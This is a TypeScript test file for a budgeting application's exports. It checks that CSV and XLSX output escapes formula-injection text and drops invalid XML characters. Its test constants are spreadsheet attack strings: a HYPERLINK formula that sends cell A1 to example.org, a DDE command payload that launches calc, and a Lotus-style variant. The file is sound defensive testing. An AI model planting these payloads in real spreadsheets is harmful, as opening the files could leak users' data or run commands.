import fs from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { unzipSync } from 'fflate';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { centralWorkbook, departmentWithBudget, type DepartmentHandle } from '../helpers/exchange.ts';
import { tempDir } from '../helpers/workbook.ts';

/**
 * Text typed by a user (or read from an imported file) must not become a formula in any CSV or XLSX
 * that Werkboek writes, nor make the XML of an XLSX ill-formed (issue 17, items 2 and 9).
 */

const HYPERLINK = '=HYPERLINK("https://example.org/?d="&A1;"Klik hier")';
const DDE = "+cmd|' /C calc'!A0";
const LOTUS = '@SUM(1+1)*cmd|x';
const BROKEN = 'Onderhoud \uFFFE uitgesteld \uFFFF \uD800';

/** The Char production of XML 1.0, written out independently of the code under test. */
const NOT_XML_CHAR = /[^\t\n\r\u0020-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/u;

function xmlParts(bytes: Buffer): Record<string, string> {
  const files = unzipSync(new Uint8Array(bytes));
  return Object.fromEntries(Object.entries(files).filter(([name]) => name.endsWith('.xml')).map(([name, data]) => [name, Buffer.from(data).toString('utf8')]));
}

function expectWellFormedText(bytes: Buffer): void {
  for (const [name, xml] of Object.entries(xmlParts(bytes))) {
    const bad = NOT_XML_CHAR.exec(xml);
    expect(bad ? `${name}: U+${bad[0].codePointAt(0)!.toString(16).toUpperCase()} at ${bad.index}` : null).toBeNull();
  }
}

async function cellTexts(bytes: Buffer): Promise<string[]> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(bytes as unknown as ArrayBuffer);
  const texts: string[] = [];
  book.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => void (typeof cell.value === 'string' && texts.push(cell.value)))));
  return texts;
}

/** No text cell starts like a formula unless it is a number; the attacks are there, with an apostrophe. */
function expectNeutralised(texts: string[], attacks: string[]): void {
  expect(texts.filter((t) => /^[=+\-@\t\r]/.test(t) && !/^[+-]?[\d.,]+$/.test(t))).toEqual([]);
  for (const attack of attacks) expect(texts.some((t) => t.startsWith(`'${attack.slice(0, 12)}`)), attack).toBe(true);
}

describe('cells of the files Werkboek writes', () => {
  const dir = tempDir('werkboek-cells-');
  let department: DepartmentHandle;
  let central: Awaited<ReturnType<typeof centralWorkbook>>;

  beforeAll(async () => {
    department = await departmentWithBudget(
      dir,
      'OR',
      'Openbare Ruimte',
      [
        { costCentre: 'OR01', account: '4300', accountName: HYPERLINK, primitiveCents: 10_000_000, revisionCents: 500_000, explanation: `${DDE} ${BROKEN}` },
        { costCentre: 'OR02', account: '4400', accountName: LOTUS, primitiveCents: 2_000_000, commitmentCents: 250_000 },
      ],
      [{ date: '15-01-2027', costCentre: 'OR01', account: '4300', amount: '-30.000,00' }],
    );
    central = await centralWorkbook(dir, 'central-finance');
  });
  afterAll(() => {
    department.session.close();
    central.session.close();
  });

  it('the archive CSVs give formula text an apostrophe, keep negative amounts as numbers, and the LEESMIJ says so', async () => {
    const target = path.join(dir, 'archief.zip');
    await department.client.workbook.exportArchive({ path: target });
    const files = unzipSync(new Uint8Array(fs.readFileSync(target)));
    const rows = (table: string) => Papa.parse<Record<string, string>>(Buffer.from(files[`tabellen/${table}.csv`]).toString('utf8').slice(1), { delimiter: ';', header: true, skipEmptyLines: true }).data;
    const lines = rows('budget_line');
    expect(lines.map((l) => l.account_name).sort()).toEqual([`'${HYPERLINK}`, `'${LOTUS}`].sort());
    expect(lines.find((l) => l.account === '4300')!.explanation.startsWith(`'${DDE} Onderhoud`)).toBe(true);
    const ledger = rows('ledger_line');
    expect(ledger[0]).toMatchObject({ amount_cents: '-3000000', amount_euro: '-30000,00' });
    for (const table of Object.keys(files).filter((n) => n.endsWith('.csv'))) {
      const text = Buffer.from(files[table]).toString('utf8').slice(1);
      for (const row of Papa.parse<string[]>(text, { delimiter: ';', skipEmptyLines: true }).data) {
        for (const cell of row) expect(/^[=+\-@\t\r]/.test(cell) && !/^[+-]?[\d.,]+$/.test(cell) ? `${table}: ${cell}` : null).toBeNull();
      }
    }
    const readme = Buffer.from(files['LEESMIJ.txt']).toString('utf8');
    expect(readme).toContain('Tekst die begint met =, +, -, @, een tab of een regelterugloop krijgt een apostrof');
    expect(readme).toContain('Text starting with =, +, -, @, tab or');
  });

  it('the package XLSX, the central XLSX and the management report XLSX hold no formula text and only XML characters', async () => {
    const inbox = path.join(dir, 'inbox');
    fs.mkdirSync(inbox);
    const exported = await department.client.exchange.export({ kind: 'finance-summary', period: '2027-Q1', path: path.join(inbox, 'OR.wbx'), xlsxPath: path.join(dir, 'OR.xlsx') });
    const packageBytes = fs.readFileSync(exported.xlsx!.path!);
    expectWellFormedText(packageBytes);
    expectNeutralised(await cellTexts(packageBytes), [HYPERLINK, DDE, LOTUS]);

    // The signed package keeps the text as typed; only the readable copy is changed.
    const signed = JSON.parse(fs.readFileSync(exported.package.path!, 'utf8'));
    expect(signed.payload.lines.map((l: { accountName: string }) => l.accountName)).toContain(HYPERLINK);

    const imported = await central.client.central.import({ sources: [{ folder: inbox }], trustNew: true });
    expect(imported.counts.imported).toBe(1);
    const out = path.join(dir, 'consolidatie.xlsx');
    await central.client.central.exportXlsx({ period: '2027-Q1', path: out, asOf: '2027-04-10' });
    const centralBytes = fs.readFileSync(out);
    expectWellFormedText(centralBytes);
    const centralTexts = await cellTexts(centralBytes);
    expectNeutralised(centralTexts, [HYPERLINK, DDE, LOTUS]);
    expect(centralTexts.some((t) => t.includes('Onderhoud \uFFFD uitgesteld \uFFFD'))).toBe(true);

    const report = await department.client.managementReport.render({ quarter: '2027-Q1', format: 'xlsx' });
    const reportBytes = Buffer.from(report.contentBase64, 'base64');
    expectWellFormedText(reportBytes);
    expectNeutralised(await cellTexts(reportBytes), [HYPERLINK]);
  });
});
